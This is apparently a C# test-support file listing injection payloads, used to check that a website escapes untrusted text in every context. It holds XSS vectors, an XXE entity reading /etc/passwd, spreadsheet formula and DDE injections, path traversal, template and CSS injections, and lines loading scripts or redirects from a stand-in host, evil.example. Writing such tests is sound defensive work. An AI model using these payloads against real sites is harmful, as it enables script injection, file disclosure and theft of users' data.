using System.Collections.Immutable;

namespace Site.Tests.WholeSite.Injection;

/// <summary>Texts that become active where they are not escaped as their place demands: markup, attributes, scripts, styles, addresses, templates, cells, XML, JSON, host rules.</summary>
internal static class Payloads
{
    private const string Act = "alert(1)";

    /// <summary>Ways out of where a text stands.</summary>
    private static readonly string[] Exits = ["", "\">", "'>", "</title>", "</script>", "</style>", "-->", "]]>", "</textarea>", "\" ", "' ", "`>", "</a>", "</time>", "</svg>"];

    private static readonly string[] Markup =
    [
        $"<script>{Act}</script>", $"<img src=x onerror={Act}>", $"<svg onload={Act}>", $"<svg/onload={Act}//", $"<iframe srcdoc=\"<script>{Act}</script>\">",
        $"<a href=javascript:{Act}>x</a>", $"<details open ontoggle={Act}>", $"<math><mi xlink:href=\"javascript:{Act}\">",
    ];

    private static readonly string[] Others =
    [
        $"<SCRIPT SRC=//evil.example/x.js></SCRIPT>", $"<scr<script>ipt>{Act}</scr</script>ipt>", $"<body onload={Act}>", $"<input autofocus onfocus={Act}>", $"<video><source onerror={Act}>", $"<object data=\"javascript:{Act}\">",
        $"<embed src=\"javascript:{Act}\">", "<base href=//evil.example/>", "<meta http-equiv=refresh content=0;url=//evil.example/>", "<link rel=stylesheet href=//evil.example/x.css>", "<style>*{display:none}</style>",
        "<form action=//evil.example/><input type=submit>", $"<button formaction=javascript:{Act}>x", "<portal src=//evil.example/>", "<!--", "<!-- x --!>", "<![CDATA[", "<?xml version=\"1.0\"?>", "<?php x ?>", "<!DOCTYPE a [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;",
        "<plaintext>", "<xmp>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<template><script>alert(1)</script></template>", "<svg><script href=//evil.example/x.js /></svg>", "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>", "<svg><animate onbegin=alert(1) attributeName=x>", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<marquee onstart=alert(1)>", "<select><noembed></select><script>alert(1)</script>",
        "<img src='data:x' onerror=alert(1)>", "<img srcset=\"//evil.example/x 1x\">", "<audio src=//evil.example/x autoplay>", "<x onclick=alert(1)>x", "<custom-el></custom-el>", "<a href=\"jav&#x09;ascript:alert(1)\">x</a>", "<a href=\"\u0001javascript:alert(1)\">x</a>",
        "\" onmouseover=\"alert(1)", "' onmouseover='alert(1)", "\" autofocus onfocus=alert(1) x=\"", "\" style=\"position:fixed", "x\" data-x=\"y", "\"/><script>alert(1)</script>", "\\\"><script>alert(1)</script>", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;script&#62;alert(1)&#60;/script&#62;", "&#x3c;img src=x onerror=alert(1)&#x3e;", "&amp;lt;img src=x onerror=alert(1)&amp;gt;", "&quot;onmouseover=alert(1)&quot;", "%3Cscript%3Ealert(1)%3C/script%3E", "%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E", "＜script＞alert(1)＜/script＞", "‹script›alert(1)‹/script›",
        "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)", "javascript&colon;alert(1)", "javascript&#58;alert(1)", "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "//evil.example/", "\\\\evil.example\\x", "https:evil.example", "https://khoi.example@evil.example/", "file:///etc/passwd", "feed:javascript:alert(1)", "blob:https://evil.example/x", "about:blank", "mailto:a@b.example?bcc=c@evil.example",
        "[x](javascript:alert(1))", "[x](<javascript:alert(1)>)", "[x](java&#x73;cript:alert(1))", "[x](JAVASCRIPT:alert(1) \"y\")", "[x](data:text/html,y)", "[x](//evil.example/)", "![x](javascript:alert(1))", "![x](//evil.example/x.png)", "![x\" onerror=\"alert(1)](/anh/a.jpg)", "[x]: javascript:alert(1)", "<javascript:alert(1)>", "<https://x.example/\"onmouseover=alert(1)>", "[a](https://x.example/\"onmouseover=\"alert(1))", "[a](https://x.example '\"onmouseover=alert(1)')", "[^x]: <script>alert(1)</script>", "`<script>alert(1)</script>`", "``` <script>\n", "~~~ \"onmouseover=alert(1)\n", "| a | <script>alert(1)</script> |", "# x {onclick=alert(1)}", "[x]{onclick=alert(1)}", "::: luu-y \"><script>alert(1)</script>", "::: {onclick=alert(1)}", "x\\\n<script>alert(1)</script>", "> <script>alert(1)</script>", "- <script>alert(1)</script>", "**<script>alert(1)</script>**", "[<script>alert(1)</script>](/)", "![<script>alert(1)</script>](/anh/a.jpg)", "\\<script>alert(1)\\</script>", "59-KH/\"onmouseover=alert(1)", "59-KH/ĐUK<script>alert(1)</script>",
        "{{ site }}", "{{ include 'x' }}", "{{ 1 + 1 }}", "{% raw %}", "{{{ x }}}", "${alert(1)}", "#{alert(1)}", "<%= alert(1) %>", "@Html.Raw(1)", "[[${alert(1)}]]", "{{constructor.constructor('alert(1)')()}}", "{% include '/etc/passwd' %}", "$$alert(1)$$",
        "=cmd|'/c calc'!A1", "+1+1", "-1+1", "@SUM(1)", "=HYPERLINK(\"//evil.example\")", "\t=1+1", "a\",\"b", "a;b", "a\rb",
        "</w:t><w:t>", "{ HYPERLINK \"javascript:alert(1)\" }", "{ DDEAUTO c:\\\\windows }", "INCLUDEPICTURE \"//evil.example/x\"", "&#x0;", "&e;", "<rss>", "</item><item>", "</url><url><loc>https://evil.example/</loc>", "]]><script>alert(1)</script>",
        "\"}</script><script>alert(1)</script>", "\\\"}];alert(1);//", "\\", "\\\\", "\\'", "'", "\"", "`", "\u2028alert(1)", "\u2029alert(1)", "\u202Egpj.exe", "\u200B<script>", "<\u200Bscript>alert(1)</script>", "<\u0130mg src=x onerror=alert(1)>", "\uFF1Cimg src=x onerror=alert(1)\uFF1E",
        "/* https://evil.example/ 301", "/x https://evil.example/ 301!", "  X-Evil: 1", "Set-Cookie: a=b", "*", ":splat", "User-agent: *", "Disallow:", "../../../etc/passwd", "..%2f..%2f", "con", "url(//evil.example/x)", "expression(alert(1))", "@import '//evil.example/x.css'", "}*{background:url(//evil.example/)}", "a:hover{x:y}", "BEGIN:VEVENT", "SUMMARY:x",
    ];

    public static readonly ImmutableArray<string> All = [.. Exits.SelectMany(exit => Markup.Select(markup => exit + markup)).Concat(Others).Distinct(StringComparer.Ordinal)];
}
